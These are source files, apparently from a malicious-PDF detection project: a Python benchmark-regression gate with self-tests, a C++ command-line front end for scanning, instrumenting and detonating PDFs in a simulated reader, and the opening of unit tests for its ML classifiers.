        "BM_XrefParse/entries:20000/bytes_per_s",
    ],
    # Serve gates both directions: sustained capacity must not fall, and
    # steady-state tail latency must not blow up.
    "serve": [
        "Serve/jobs:4/docs_per_s",
        "Serve/jobs:4/p99_latency_s",
    ],
}
FALLBACK_GATES = ["BM_FlateDecompress/1048576"]
# Units where a smaller current value means a regression.
HIGHER_IS_BETTER = {"bytes_per_second", "docs_per_second", "x_vs_serial"}
# Units where a larger current value means a regression (cost metrics).
LOWER_IS_BETTER = {"allocs_per_doc", "arena_bytes_per_doc",
                   "latency_seconds"}


class BenchFormatError(Exception):
    """A trajectory file that cannot be compared (readable, not a traceback)."""


def load(path):
    try:
        with open(path, "r", encoding="utf-8") as fh:
            doc = json.load(fh)
    except OSError as exc:
        raise BenchFormatError("%s: cannot read: %s" % (path, exc)) from exc
    except json.JSONDecodeError as exc:
        raise BenchFormatError("%s: not valid JSON: %s" % (path, exc)) from exc
    if not isinstance(doc, dict):
        raise BenchFormatError("%s: expected a JSON object at top level"
                               % path)
    out = {}
    for i, entry in enumerate(doc.get("benchmarks", [])):
        for key in ("name", "value"):
            if not isinstance(entry, dict) or key not in entry:
                raise BenchFormatError(
                    "%s: benchmarks[%d] has no \"%s\" field (got: %r)"
                    % (path, i, key, entry))
        try:
            value = float(entry["value"])
        except (TypeError, ValueError) as exc:
            raise BenchFormatError(
                "%s: benchmarks[%d] (%s): non-numeric value %r"
                % (path, i, entry["name"], entry["value"])) from exc
        out[entry["name"]] = (value, entry.get("unit", ""))
    return out, doc.get("suite", "")


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("baseline", nargs="?")
    parser.add_argument("current", nargs="?")
    parser.add_argument("--gate", action="append", default=None,
                        help="benchmark name that may fail the check "
                             "(repeatable; default chosen per suite)")
    parser.add_argument("--max-regression", type=float, default=30.0,
                        help="allowed drop in percent for gated benchmarks")
    parser.add_argument("--self-test", action="store_true",
                        help="run the built-in unit checks and exit")
    args = parser.parse_args()

    if args.self_test:
        return self_test()
    if args.baseline is None or args.current is None:
        parser.error("baseline and current files are required")

    try:
        baseline, _ = load(args.baseline)
        current, suite = load(args.current)
    except BenchFormatError as exc:
        print("bench_check: FAIL\n  %s" % exc)
        return 1
    if args.gate is not None:
        gates = args.gate
    else:
        gates = SUITE_GATES.get(suite, FALLBACK_GATES)
    failures = compare(baseline, current, gates, args.max_regression)

    if failures:
        print("\nbench_check: FAIL")
        for f in failures:
            print("  " + f)
        return 1
    print("\nbench_check: OK (gates: %s)" % ", ".join(gates))
    return 0


def compare(baseline, current, gates, max_regression):
    """Prints the per-benchmark report; returns the list of gate failures."""
    failures = []
    width = max((len(n) for n in current), default=10)
    for name in sorted(set(baseline) | set(current)):
        if name not in baseline:
            print("%-*s  NEW  %.5g" % (width, name, current[name][0]))
            continue
        if name not in current:
            print("%-*s  GONE (was %.5g)" % (width, name, baseline[name][0]))
            if name in gates:
                failures.append("%s: missing from current results" % name)
            continue
        base_value, unit = baseline[name]
        cur_value, _ = current[name]
        if base_value == 0:
            # A zero baseline is meaningful for cost metrics (steady-state
            # allocs); any growth from zero is infinite regression.
            delta_pct = 0.0 if cur_value == 0 else float("inf")
        else:
            delta_pct = (cur_value - base_value) / base_value * 100.0
        gated = name in gates
        regressed = ((unit in HIGHER_IS_BETTER
                      and delta_pct < -max_regression)
                     or (unit in LOWER_IS_BETTER
                         and delta_pct > max_regression))
        marker = ""
        if gated and regressed:
            marker = "  FAIL (> %.0f%% below baseline)" % max_regression
            failures.append("%s: %.5g -> %.5g (%+.1f%%)"
                            % (name, base_value, cur_value, delta_pct))
        elif regressed:
            marker = "  (regressed, not gated)"
        print("%-*s  %+7.1f%%  %.5g -> %.5g%s"
              % (width, name, delta_pct, base_value, cur_value, marker))

    for name in gates:
        if name not in baseline and name not in current:
            failures.append("%s: gated benchmark absent from both files"
                            % name)
    return failures


def self_test():
    """Unit checks for the loader and the gate logic (CI hygiene job)."""
    import contextlib
    import io
    import os
    import tempfile

    checks = []

    def check(name, condition):
        checks.append((name, condition))
        print("%s %s" % ("ok  " if condition else "FAIL", name))

    def quiet_compare(baseline, current, gates, max_regression=30.0):
        with contextlib.redirect_stdout(io.StringIO()):
            return compare(baseline, current, gates, max_regression)

    # A gated metric present in the baseline but missing from the current
    # run must fail readably, not crash.
    failures = quiet_compare({"a/docs_per_s": (10.0, "docs_per_second")},
                             {}, ["a/docs_per_s"])
    check("gated metric gone from current fails",
          any("missing from current" in f for f in failures))
    failures = quiet_compare({"a": (10.0, "docs_per_second"),
                              "b": (1.0, "count")},
                             {"b": (1.0, "count")}, ["b"])
    check("ungated gone metric only reports", failures == [])

    # Direction: throughput drops fail, latency growth fails, improvements
    # in either direction pass.
    failures = quiet_compare({"a": (100.0, "docs_per_second")},
                             {"a": (50.0, "docs_per_second")}, ["a"])
    check("throughput drop beyond threshold fails", len(failures) == 1)
    failures = quiet_compare({"a": (1.0, "latency_seconds")},
                             {"a": (2.0, "latency_seconds")}, ["a"])
    check("latency growth beyond threshold fails", len(failures) == 1)
    failures = quiet_compare({"a": (1.0, "latency_seconds")},
                             {"a": (0.5, "latency_seconds")}, ["a"])
    check("latency improvement passes", failures == [])
    failures = quiet_compare({"a": (100.0, "docs_per_second")},
                             {"a": (90.0, "docs_per_second")}, ["a"])
    check("drop within threshold passes", failures == [])

    # Malformed trajectory files must raise a readable BenchFormatError
    # (this was a bare KeyError traceback before).
    cases = [
        ('{"benchmarks": [{"value": 1.0}]}', "no \"name\""),
        ('{"benchmarks": [{"name": "a"}]}', "no \"value\""),
        ('{"benchmarks": [{"name": "a", "value": "fast"}]}', "non-numeric"),
        ("not json", "not valid JSON"),
        ("[1, 2]", "JSON object"),
    ]
    for text, expect in cases:
        fd, path = tempfile.mkstemp(suffix=".json")
        with os.fdopen(fd, "w", encoding="utf-8") as fh:
            fh.write(text)
        try:
            load(path)
            check("load rejects %r" % expect, False)
        except BenchFormatError as exc:
            check("load rejects %r" % expect, expect in str(exc))
        finally:
            os.unlink(path)
    try:
        load(os.path.join(tempfile.gettempdir(),
                          "bench-check-self-test-missing.json"))
        check("load rejects a missing file", False)
    except BenchFormatError as exc:
        check("load rejects a missing file", "cannot read" in str(exc))

    failed = [name for name, condition in checks if not condition]
    if failed:
        print("\nbench_check --self-test: FAIL (%d/%d)"
              % (len(failed), len(checks)))
        return 1
    print("\nbench_check --self-test: OK (%d checks)" % len(checks))
    return 0


if __name__ == "__main__":
    sys.exit(main())
