// pdfshield — command-line front door to the library.
//
//   pdfshield scan <in.pdf>
//       static analysis only: Javascript chains + features, JSON to stdout.
//   pdfshield instrument <in.pdf> <out.pdf> [--incremental]
//       Phase-I front-end; writes the instrumented file and a
//       de-instrumentation record sidecar <out.pdf>.psrec.
//   pdfshield deinstrument <in.pdf> <out.pdf> <record.psrec>
//       restores the original scripts (§III-F background job).
//   pdfshield detonate <in.pdf> [--version 8.0|9.0] [--kernel-hooks]
//       full pipeline in the simulated reader; JSON report to stdout;
//       exit code 2 when the document is convicted.
//   pdfshield batch <dir> [--jobs N] [--out report.json] [...]
//       multi-threaded front-end scan of every file under <dir>; summary
//       to stdout, full JSON report to --out. Exit code 3 when some
//       documents failed (the batch itself still completes).
//       --trace out.jsonl writes the per-document event streams as JSONL;
//       --detonate additionally opens each instrumented output in a
//       per-document simulated reader + detector for runtime verdicts.
//
//   scan/detonate/batch all accept --trace <out.jsonl>: every layer's
//   observable events (phase spans, feature fires, API calls, SOAP
//   traffic, verdicts) land in one stream correlated by document id.
//   pdfshield serve [--spool dir] [--socket path] [--jobs N] [...]
//       long-lived scan daemon: documents arrive through a watched spool
//       directory (write-then-rename) and/or a length-prefixed AF_UNIX
//       socket; admission-controlled work-stealing workers answer one
//       JSON line per document (to --out or stdout). Overload returns
//       `rejected: overloaded` instead of queueing; a saturated backlog
//       degrades to static-prefilter-only verdicts until it drains.
//       SIGINT/SIGTERM stop intake and drain every admitted document.
//   pdfshield serve-send <socket> <file>...
//       client: sends each file to a serve socket, prints the responses;
//       exit code 2 when any response is malicious.
//   pdfshield jsstatic <file>
//       static JS abstract interpretation: reconstructs every script chain
//       (or takes the file verbatim when it is not a PDF) and prints the
//       merged jsstatic::Report — resolved sink payloads, indicators,
//       obfuscation score, prefilter verdict — as JSON.
//   pdfshield corpus <out-dir> [benign N] [malicious M]
//       writes a synthetic labelled corpus to disk.
#include <algorithm>
#include <atomic>
#include <chrono>
#include <csignal>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <mutex>
#include <thread>
#include <vector>

#include "core/batch_scanner.hpp"
#include "core/scan_service.hpp"
#include "core/serve_endpoints.hpp"
#include "core/deinstrumentation.hpp"
#include "core/detector.hpp"
#include "core/pipeline.hpp"
#include "core/report.hpp"
#include "core/trace_replay.hpp"
#include "corpus/generator.hpp"
#include "jsstatic/analyzer.hpp"
#include "pdf/parser.hpp"
#include "reader/reader_sim.hpp"
#include "support/checksum.hpp"
#include "support/json.hpp"
#include "support/strings.hpp"
#include "sys/kernel.hpp"
#include "trace/recorder.hpp"

using namespace pdfshield;

namespace {

support::Bytes read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw support::Error("cannot open " + path);
  return support::Bytes(std::istreambuf_iterator<char>(in),
                        std::istreambuf_iterator<char>());
}

void write_file(const std::string& path, support::BytesView data) {
  std::ofstream out(path, std::ios::binary);
  if (!out) throw support::Error("cannot write " + path);
  out.write(reinterpret_cast<const char*>(data.data()),
            static_cast<std::streamsize>(data.size()));
}

bool has_flag(const std::vector<std::string>& args, const std::string& flag) {
  for (const auto& a : args) {
    if (a == flag) return true;
  }
  return false;
}

std::string flag_value(const std::vector<std::string>& args,
                       const std::string& flag, const std::string& fallback) {
  for (std::size_t i = 0; i + 1 < args.size(); ++i) {
    if (args[i] == flag) return args[i + 1];
  }
  return fallback;
}

double seconds_since(std::chrono::steady_clock::time_point start) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - start)
      .count();
}

int cmd_scan(const std::vector<std::string>& args) {
  const support::Bytes input = read_file(args.at(0));

  // --trace: static-scan phases and feature fires as a JSONL event stream.
  // The summary line goes to stderr — stdout carries the JSON report.
  const std::string trace_path = flag_value(args, "--trace", "");
  trace::Recorder recorder("static-scan", 0);
  trace::Recorder* rec = nullptr;
  if (!trace_path.empty()) {
    recorder.add_sink(trace::JsonlSink::open(trace_path));
    recorder.set_doc(args.at(0));
    rec = &recorder;
  }

  auto t0 = std::chrono::steady_clock::now();
  if (rec) {
    rec->record(trace::PhaseSpan{core::trace_replay::kPhaseParseDecompress,
                                 /*begin=*/true, 0.0});
  }
  pdf::Document doc = pdf::parse_document(input);
  if (rec) {
    rec->record(trace::PhaseSpan{core::trace_replay::kPhaseParseDecompress,
                                 /*begin=*/false, seconds_since(t0)});
    t0 = std::chrono::steady_clock::now();
    rec->record(trace::PhaseSpan{core::trace_replay::kPhaseFeatureExtraction,
                                 /*begin=*/true, 0.0});
  }
  const core::JsChainAnalysis chains = core::analyze_js_chains(doc);
  const core::StaticFeatures f = core::extract_static_features(doc, chains);
  if (rec) {
    rec->record(trace::PhaseSpan{core::trace_replay::kPhaseFeatureExtraction,
                                 /*begin=*/false, seconds_since(t0)});
    core::trace_replay::emit_static_feature_fires(*rec, f);
    rec->record(trace::DocVerdict{
        f.binary_sum() > 0 ? "suspicious-static" : "clean-static",
        static_cast<double>(f.binary_sum()), /*alerted=*/false});
  }

  support::Json report = support::Json::object();
  report["file"] = args.at(0);
  report["bytes"] = input.size();
  report["objects"] = doc.object_count();
  report["has_javascript"] = chains.has_javascript();
  support::Json sites = support::Json::array();
  for (const auto& site : chains.sites) {
    support::Json s = support::Json::object();
    s["object"] = site.object_num;
    s["triggered"] = site.triggered;
    s["in_stream"] = site.code_in_stream;
    s["source_bytes"] = site.source.size();
    sites.push_back(std::move(s));
  }
  report["javascript_sites"] = std::move(sites);
  support::Json features = support::Json::object();
  features["F1_chain_ratio"] = f.js_chain_ratio;
  features["F2_header_obfuscation"] = f.f2();
  features["F3_hex_code_in_keyword"] = f.f3();
  features["F4_empty_objects"] = f.empty_object_count;
  features["F5_encoding_levels"] = f.max_encoding_levels;
  features["binary_sum"] = f.binary_sum();
  report["static_features"] = std::move(features);
  std::cout << report.dump(2) << "\n";
  if (rec) {
    std::cerr << "trace: " << rec->counters().summary() << " -> " << trace_path
              << "\n";
  }
  return 0;
}

int cmd_instrument(const std::vector<std::string>& args) {
  const support::Bytes input = read_file(args.at(0));
  const std::string out_path = args.at(1);

  support::Rng rng(support::fnv1a64(support::BytesView(input.data(), input.size())));
  core::FrontEndOptions options;
  options.incremental_update = has_flag(args, "--incremental");
  core::FrontEnd frontend(rng, core::generate_detector_id(rng), options);
  core::FrontEndResult result = frontend.process(input);
  if (!result.ok) {
    std::cerr << "error: " << result.error << "\n";
    return 1;
  }
  write_file(out_path, result.output);
  write_file(out_path + ".psrec",
             support::to_bytes(core::serialize_record(result.record)));
  std::cout << "instrumented " << result.record.entries.size()
            << " script(s) under key " << result.record.key.combined()
            << (result.incremental_used ? " (incremental update)" : "")
            << "\nwrote " << out_path << " and " << out_path << ".psrec\n";
  return 0;
}

int cmd_deinstrument(const std::vector<std::string>& args) {
  const support::Bytes input = read_file(args.at(0));
  const support::Bytes record_text = read_file(args.at(2));
  const auto record = core::parse_record(
      std::string(record_text.begin(), record_text.end()));
  if (!record) {
    std::cerr << "error: malformed record file\n";
    return 1;
  }
  write_file(args.at(1), core::deinstrument_file(input, *record));
  std::cout << "restored " << record->entries.size() << " script(s) into "
            << args.at(1) << "\n";
  return 0;
}

int cmd_detonate(const std::vector<std::string>& args) {
  const support::Bytes input = read_file(args.at(0));

  sys::Kernel kernel;
  // --trace: every layer records onto the kernel's recorder — front-end
  // spans, hooked API calls, SOAP traffic, feature fires, confinement and
  // the verdict — one correlated stream per detonation.
  const std::string trace_path = flag_value(args, "--trace", "");
  trace::Recorder* rec = nullptr;
  if (!trace_path.empty()) {
    kernel.trace().add_sink(trace::JsonlSink::open(trace_path));
    rec = &kernel.trace();
  }
  support::Rng rng(support::fnv1a64(support::BytesView(input.data(), input.size())));
  core::DetectorConfig cfg;
  if (has_flag(args, "--kernel-hooks")) {
    cfg.hook_mode = core::DetectorConfig::HookMode::kKernelMode;
  }
  core::RuntimeDetector detector(kernel, rng, cfg);
  core::FrontEnd frontend(rng, detector.detector_id());
  reader::ReaderConfig reader_cfg;
  reader_cfg.version = flag_value(args, "--version", "9.0");
  reader::ReaderSim reader(kernel, reader_cfg);
  detector.attach(reader);

  if (rec) rec->set_doc(args.at(0));
  core::FrontEndResult fe = frontend.process(input, rec);
  if (!fe.ok) {
    std::cerr << "error: " << fe.error << "\n";
    return 1;
  }
  detector.register_document(fe.record.key, args.at(0), fe.features);
  for (const auto& emb : fe.embedded) {
    detector.register_document(emb.record.key, args.at(0) + ":" + emb.name,
                               emb.features);
  }
  reader.open_document(fe.output, args.at(0));

  const core::Verdict verdict = detector.verdict(fe.record.key);
  bool malicious = verdict.malicious;
  for (const auto& emb : fe.embedded) {
    malicious = malicious || detector.verdict(emb.record.key).malicious;
  }
  if (rec) {
    // Closing verdict snapshot (alerts already emitted one at alert time).
    rec->record_for(args.at(0),
                    trace::DocVerdict{verdict.malicious ? "malicious" : "benign",
                                      verdict.malscore, verdict.malicious});
    std::cerr << "trace: " << rec->counters().summary() << " -> " << trace_path
              << "\n";
  }

  std::cout << core::document_report(detector, fe.record.key).dump(2) << "\n";
  std::cout << core::session_report(detector, kernel).dump(2) << "\n";
  return malicious ? 2 : 0;
}

int cmd_batch(const std::vector<std::string>& args) {
  const std::filesystem::path dir = args.at(0);
  if (!std::filesystem::is_directory(dir)) {
    std::cerr << "error: " << dir << " is not a directory\n";
    return 1;
  }

  core::BatchOptions options;
  const std::string jobs = flag_value(args, "--jobs", "");
  if (jobs.empty()) {
    options.jobs = std::max(1u, std::thread::hardware_concurrency());
  } else {
    const int n = std::atoi(jobs.c_str());
    if (n <= 0) {
      std::cerr << "error: --jobs expects a positive integer, got '" << jobs
                << "'\n";
      return 1;
    }
    options.jobs = static_cast<std::size_t>(n);
  }
  options.timeout_s = std::atof(flag_value(args, "--timeout", "0").c_str());
  options.detector_id = flag_value(args, "--detector-id", "");
  const std::string out_dir = flag_value(args, "--write-outputs", "");
  options.keep_outputs = !out_dir.empty();
  options.frontend.incremental_update = has_flag(args, "--incremental");
  options.trace_path = flag_value(args, "--trace", "");
  options.detonate = has_flag(args, "--detonate");
  options.static_prefilter = has_flag(args, "--static-prefilter");

  core::BatchScanner scanner(options);
  core::BatchReport report = scanner.scan_directory(dir);

  if (!out_dir.empty()) {
    std::filesystem::create_directories(out_dir);
    for (const auto& doc : report.docs) {
      if (!doc.ok) continue;
      const std::filesystem::path out =
          std::filesystem::path(out_dir) / (doc.name + ".instrumented.pdf");
      std::filesystem::create_directories(out.parent_path());
      write_file(out.string(), doc.output);
    }
  }
  const std::string report_path = flag_value(args, "--out", "");
  if (!report_path.empty()) {
    write_file(report_path, support::to_bytes(report.to_json().dump(2)));
  }

  std::cout << "scanned " << report.docs.size() << " document(s) with "
            << report.jobs << " worker(s) in "
            << support::format_double(report.wall_s, 3) << "s ("
            << support::format_double(report.docs_per_s, 1) << " docs/s): "
            << report.ok_count << " ok, " << report.suspicious_count
            << " suspicious, " << report.error_count << " error(s), "
            << report.timeout_count << " timeout(s)";
  if (report.detonated) {
    std::cout << ", " << report.malicious_count << " malicious";
  }
  if (report.static_prefilter) {
    std::cout << ", " << report.static_skipped_count
              << " statically prefiltered";
  }
  std::cout << "\n";
  for (const auto& doc : report.docs) {
    if (!doc.ok) std::cout << "  FAILED " << doc.name << ": " << doc.error << "\n";
  }
  if (report.traced) {
    std::cout << "trace: " << report.trace_counters.summary() << " -> "
              << options.trace_path << "\n";
  }
  if (!report_path.empty()) std::cout << "wrote " << report_path << "\n";
  return (report.error_count + report.timeout_count) == 0 ? 0 : 3;
}

volatile std::sig_atomic_t g_serve_stop = 0;

void serve_signal(int) { g_serve_stop = 1; }

int cmd_serve(const std::vector<std::string>& args) {
  const std::string spool = flag_value(args, "--spool", "");
  const std::string socket = flag_value(args, "--socket", "");
  if (spool.empty() && socket.empty()) {
    std::cerr << "error: serve needs --spool <dir> and/or --socket <path>\n";
    return 64;
  }

  core::ServeOptions options;
  const std::string jobs = flag_value(args, "--jobs", "");
  options.jobs = jobs.empty()
                     ? std::max(1u, std::thread::hardware_concurrency())
                     : static_cast<std::size_t>(
                           std::max(1, std::atoi(jobs.c_str())));
  options.max_inflight_docs = static_cast<std::size_t>(
      std::atoll(flag_value(args, "--max-inflight-docs", "0").c_str()));
  options.max_inflight_bytes = static_cast<std::size_t>(
      std::atoll(flag_value(args, "--max-inflight-bytes", "0").c_str()));
  options.degrade_depth = static_cast<std::size_t>(
      std::atoll(flag_value(args, "--degrade-depth", "0").c_str()));
  options.detector_id = flag_value(args, "--detector-id", "");
  options.detonate = !has_flag(args, "--no-detonate");
  options.static_prefilter = has_flag(args, "--static-prefilter");
  options.trace_path = flag_value(args, "--trace", "");
  // Exit conditions for smoke tests and bounded runs; 0 = run forever.
  const auto max_docs = static_cast<std::uint64_t>(
      std::atoll(flag_value(args, "--max-docs", "0").c_str()));
  const double idle_exit_s =
      std::atof(flag_value(args, "--idle-exit", "0").c_str());

  core::ScanService service(options);

  // Responses stream to --out (JSONL) or stdout, one line per document.
  const std::string out_path = flag_value(args, "--out", "");
  std::ofstream out_file;
  if (!out_path.empty()) {
    out_file.open(out_path, std::ios::app);
    if (!out_file) throw support::Error("cannot write " + out_path);
  }
  std::mutex out_mutex;
  auto emit_response = [&](const core::ScanResponse& response) {
    std::lock_guard<std::mutex> lock(out_mutex);
    if (out_file.is_open()) {
      out_file << response.to_jsonl() << "\n" << std::flush;
    } else {
      std::cout << response.to_jsonl() << "\n" << std::flush;
    }
  };

  std::unique_ptr<core::serve::SpoolWatcher> watcher;
  if (!spool.empty()) {
    core::serve::SpoolOptions spool_options;
    spool_options.delete_processed = has_flag(args, "--delete-processed");
    spool_options.on_response = emit_response;
    watcher = std::make_unique<core::serve::SpoolWatcher>(
        service, spool, std::move(spool_options));
    watcher->start();
  }
  std::unique_ptr<core::serve::SocketServer> server;
  if (!socket.empty()) {
    server = std::make_unique<core::serve::SocketServer>(service, socket);
    server->start();
  }

  g_serve_stop = 0;
  std::signal(SIGINT, serve_signal);
  std::signal(SIGTERM, serve_signal);
  std::cerr << "serve: detector " << service.detector_id() << ", "
            << options.jobs << " worker(s)"
            << (spool.empty() ? "" : ", spool " + spool)
            << (socket.empty() ? "" : ", socket " + socket) << "\n";

  std::uint64_t last_completed = 0;
  auto last_activity = std::chrono::steady_clock::now();
  while (g_serve_stop == 0) {
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
    const core::ServeStats stats = service.stats();
    if (max_docs > 0 && stats.completed >= max_docs) break;
    if (stats.completed != last_completed) {
      last_completed = stats.completed;
      last_activity = std::chrono::steady_clock::now();
    }
    if (idle_exit_s > 0 && seconds_since(last_activity) >= idle_exit_s) break;
  }

  // Graceful shutdown: stop taking new work, then drain what was admitted —
  // every accepted document still gets its response.
  if (watcher) watcher->stop();
  if (server) server->stop();
  service.drain();

  const core::ServeStats stats = service.stats();
  std::cerr << "serve: " << stats.completed << " scanned ("
            << stats.malicious << " malicious, " << stats.static_skipped
            << " statically prefiltered), " << stats.rejected
            << " rejected, " << stats.degraded_docs << " degraded ("
            << stats.degrade_enters << " degradation(s)), " << stats.steals
            << " steal(s)\n";
  return 0;
}

int cmd_serve_send(const std::vector<std::string>& args) {
  const std::string socket = args.at(0);
  bool malicious = false;
  for (std::size_t i = 1; i < args.size(); ++i) {
    const support::Bytes data = read_file(args[i]);
    const std::string line = core::serve::socket_scan(
        socket, std::filesystem::path(args[i]).filename().string(),
        support::BytesView(data.data(), data.size()));
    std::cout << line << "\n";
    malicious = malicious || line.find("\"malicious\":true") != std::string::npos;
  }
  return malicious ? 2 : 0;
}

int cmd_jsstatic(const std::vector<std::string>& args) {
  const support::Bytes input = read_file(args.at(0));

  // PDFs go through chain reconstruction so the analyzer sees the same
  // sources the instrumenter would; anything unparseable is treated as a
  // bare script, which makes the command handy on extracted payloads too.
  std::vector<std::string> sources;
  bool is_pdf = true;
  try {
    pdf::Document doc = pdf::parse_document(input);
    doc.decompress_all();
    const core::JsChainAnalysis chains = core::analyze_js_chains(doc);
    sources.reserve(chains.sites.size());
    for (const auto& site : chains.sites) sources.push_back(site.source);
  } catch (const support::Error&) {
    is_pdf = false;
    sources.emplace_back(input.begin(), input.end());
  }

  const jsstatic::Report rep = jsstatic::analyze_scripts(sources);
  support::Json j = support::Json::object();
  j["file"] = args.at(0);
  j["pdf"] = is_pdf;
  j["javascript_sites"] = static_cast<std::uint64_t>(sources.size());
  j["report"] = rep.to_json();
  std::cout << j.dump(2) << "\n";
  return 0;
}

int cmd_corpus(const std::vector<std::string>& args) {
  const std::filesystem::path dir = args.at(0);
  std::filesystem::create_directories(dir / "benign");
  std::filesystem::create_directories(dir / "malicious");
  const std::size_t benign_n =
      static_cast<std::size_t>(std::atoi(flag_value(args, "benign", "50").c_str()));
  const std::size_t mal_n = static_cast<std::size_t>(
      std::atoi(flag_value(args, "malicious", "50").c_str()));

  corpus::CorpusGenerator gen;
  std::string manifest = "name,label,family,cve\n";
  for (const auto& s : gen.generate_benign(benign_n)) {
    write_file((dir / "benign" / s.name).string(), s.data);
    manifest += s.name + ",benign," + s.family + ",\n";
  }
  for (const auto& s : gen.generate_malicious(mal_n)) {
    write_file((dir / "malicious" / s.name).string(), s.data);
    manifest += s.name + ",malicious," + s.family + "," + s.cve + "\n";
  }
  write_file((dir / "manifest.csv").string(), support::to_bytes(manifest));
  std::cout << "wrote " << benign_n << " benign + " << mal_n
            << " malicious samples and manifest.csv to " << dir << "\n";
  return 0;
}

int usage() {
  std::cerr
      << "usage:\n"
         "  pdfshield scan <in.pdf> [--trace out.jsonl]\n"
         "  pdfshield instrument <in.pdf> <out.pdf> [--incremental]\n"
         "  pdfshield deinstrument <in.pdf> <out.pdf> <record.psrec>\n"
         "  pdfshield detonate <in.pdf> [--version 9.0] [--kernel-hooks]\n"
         "                  [--trace out.jsonl]\n"
         "  pdfshield batch <dir> [--jobs N] [--out report.json]\n"
         "                  [--timeout S] [--detector-id HEX16]\n"
         "                  [--write-outputs <dir>] [--incremental]\n"
         "                  [--trace out.jsonl] [--detonate]\n"
         "                  [--static-prefilter]\n"
         "  pdfshield serve [--spool <dir>] [--socket <path>] [--jobs N]\n"
         "                  [--out responses.jsonl] [--max-inflight-docs N]\n"
         "                  [--max-inflight-bytes N] [--degrade-depth N]\n"
         "                  [--static-prefilter] [--no-detonate]\n"
         "                  [--trace out.jsonl] [--detector-id HEX16]\n"
         "                  [--max-docs N] [--idle-exit S]\n"
         "                  [--delete-processed]\n"
         "  pdfshield serve-send <socket> <file>...\n"
         "  pdfshield jsstatic <file>\n"
         "  pdfshield corpus <out-dir> [benign N] [malicious M]\n";
  return 64;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) return usage();
  const std::string command = argv[1];
  std::vector<std::string> args(argv + 2, argv + argc);
  try {
    if (command == "scan" && args.size() >= 1) return cmd_scan(args);
    if (command == "instrument" && args.size() >= 2) return cmd_instrument(args);
    if (command == "deinstrument" && args.size() >= 3) return cmd_deinstrument(args);
    if (command == "detonate" && args.size() >= 1) return cmd_detonate(args);
    if (command == "batch" && args.size() >= 1) return cmd_batch(args);
    if (command == "serve") return cmd_serve(args);
    if (command == "serve-send" && args.size() >= 2) return cmd_serve_send(args);
    if (command == "jsstatic" && args.size() >= 1) return cmd_jsstatic(args);
    if (command == "corpus" && args.size() >= 1) return cmd_corpus(args);
    return usage();
  } catch (const std::exception& e) {
    std::cerr << "error: " << e.what() << "\n";
    return 1;
  }
}
