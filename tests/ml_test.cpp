// Tests for the from-scratch ML toolkit behind the Table-IX baselines.
#include <gtest/gtest.h>

#include <cmath>

#include "ml/dataset.hpp"
#include "ml/decision_tree.hpp"
#include "ml/linear_svm.hpp"
#include "ml/metrics.hpp"
#include "ml/naive_bayes.hpp"
#include "ml/one_class.hpp"
#include "ml/random_forest.hpp"

namespace ml = pdfshield::ml;
namespace sp = pdfshield::support;

namespace {

// Two Gaussian blobs in 2-D: class 1 around (2,2), class 0 around (-2,-2).
ml::Dataset gaussian_blobs(std::size_t per_class, double separation,
                           sp::Rng& rng) {
  ml::Dataset data;
  auto gauss = [&rng]() {
    // Box–Muller-ish approximation from uniforms (sum of 4, centered).
    double s = 0;
    for (int i = 0; i < 4; ++i) s += rng.uniform01();
    return (s - 2.0) * 1.2;
  };
  for (std::size_t i = 0; i < per_class; ++i) {
    data.add({separation + gauss(), separation + gauss()}, 1);
    data.add({-separation + gauss(), -separation + gauss()}, 0);
  }
  return data;
}

// XOR-style dataset that no linear model can fit but a tree can.
ml::Dataset xor_dataset(std::size_t per_quadrant, sp::Rng& rng) {
  ml::Dataset data;
  for (std::size_t i = 0; i < per_quadrant; ++i) {
    auto jitter = [&rng]() { return rng.uniform01() * 0.6; };
    data.add({1.0 + jitter(), 1.0 + jitter()}, 0);
    data.add({-1.0 - jitter(), -1.0 - jitter()}, 0);
    data.add({1.0 + jitter(), -1.0 - jitter()}, 1);
    data.add({-1.0 - jitter(), 1.0 + jitter()}, 1);
  }
  return data;
}

}  // namespace

TEST(Dataset, AddAndArityCheck) {
  ml::Dataset d;
  d.add({1.0, 2.0}, 1);
  EXPECT_EQ(d.size(), 1u);
  EXPECT_EQ(d.feature_count(), 2u);
  EXPECT_THROW(d.add({1.0}, 0), sp::LogicError);
}

TEST(Dataset, TrainTestSplitPreservesAll) {
  sp::Rng rng(1);
  ml::Dataset d = gaussian_blobs(50, 2.0, rng);
  ml::Split split = ml::train_test_split(d, 0.7, rng);
  EXPECT_EQ(split.train.size() + split.test.size(), d.size());
  EXPECT_GT(split.train.size(), split.test.size());
}

TEST(Dataset, StandardizerZeroMeanUnitVar) {
  ml::Dataset d;
  d.add({10.0, 100.0}, 0);
  d.add({20.0, 200.0}, 0);
  d.add({30.0, 300.0}, 0);
  ml::Standardizer s;
  s.fit(d);
  ml::Dataset t = s.transform(d);
  double mean0 = (t.x[0][0] + t.x[1][0] + t.x[2][0]) / 3.0;
  EXPECT_NEAR(mean0, 0.0, 1e-9);
  EXPECT_NEAR(t.x[1][0], 0.0, 1e-9);
}

TEST(Metrics, CountsAndRates) {
  ml::Dataset d;
  d.add({1.0}, 1);
  d.add({1.0}, 1);
  d.add({0.0}, 0);
  d.add({1.0}, 0);  // will be a false positive
  ml::Metrics m = ml::evaluate(
      [](const ml::FeatureVector& x) { return x[0] > 0.5 ? 1 : 0; }, d);
  EXPECT_EQ(m.tp, 2u);
  EXPECT_EQ(m.fp, 1u);
  EXPECT_EQ(m.tn, 1u);
  EXPECT_EQ(m.fn, 0u);
  EXPECT_DOUBLE_EQ(m.tpr(), 1.0);
  EXPECT_DOUBLE_EQ(m.fpr(), 0.5);
  EXPECT_DOUBLE_EQ(m.accuracy(), 0.75);
}

TEST(LinearSvm, SeparatesGaussianBlobs) {
  sp::Rng rng(2);
  ml::Dataset data = gaussian_blobs(200, 2.5, rng);
  ml::Split split = ml::train_test_split(data, 0.7, rng);
  ml::LinearSvm svm;
  svm.train(split.train, rng);
  ml::Metrics m = ml::evaluate(
      [&](const ml::FeatureVector& x) { return svm.predict(x); }, split.test);
  EXPECT_GT(m.accuracy(), 0.95) << m.summary();
}

TEST(LinearSvm, DecisionSignTracksClass) {
  sp::Rng rng(3);
  ml::Dataset data = gaussian_blobs(100, 3.0, rng);
  ml::LinearSvm svm;
